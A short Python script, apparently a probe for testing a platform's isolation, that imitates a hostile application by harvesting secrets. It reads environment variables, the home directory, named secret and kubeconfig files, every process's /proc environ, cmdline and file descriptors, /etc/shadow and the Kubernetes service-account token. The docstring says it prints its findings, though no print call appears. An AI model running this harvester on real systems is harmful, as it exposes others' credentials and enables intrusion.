"""What a hostile application and a hostile build do first: look for whatever they can read. Runs alone, in any Python, and prints what it found."""

import os


def loot(home, size=200_000):
    """The text of everything within reach that may hold a secret: the environment, the platform's state folder, the processes of others."""
    found = [f"{name}={value}" for name, value in os.environ.items()]
    for folder, _, names in os.walk(home):
        if "/images/" not in folder and "/rabbitmq" not in folder and "/postgres" not in folder:
            found += [read(os.path.join(folder, name), size) for name in names]
    for path in ("kubeconfig", "secrets/auth-signing.json", "secrets/rabbitmq.password", "knative/tls/token.key"):  # where one may pass but not list
        found.append(read(os.path.join(home, path), size))
    for pid in sorted(filter(str.isdigit, os.listdir("/proc"))):
        for name in ("environ", "cmdline"):
            found.append(read(f"/proc/{pid}/{name}", size))
        found.append(read(f"/proc/{pid}/root{home}/kubeconfig", size))
        try:
            found += [read(f"/proc/{pid}/fd/{number}", size) for number in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
    found += [read(path, size) for path in ("/etc/shadow", "/var/run/secrets/kubernetes.io/serviceaccount/token")]
    return "\n".join(filter(None, found))


def read(path, size):
    try:
        if not os.path.isfile(path) or (path.endswith((".db", ".db-wal")) and os.path.getsize(path) > 50 * size):
            return ""
        with open(path, "rb") as file:
            return file.read(size).decode(errors="replace")
    except OSError:
        return ""
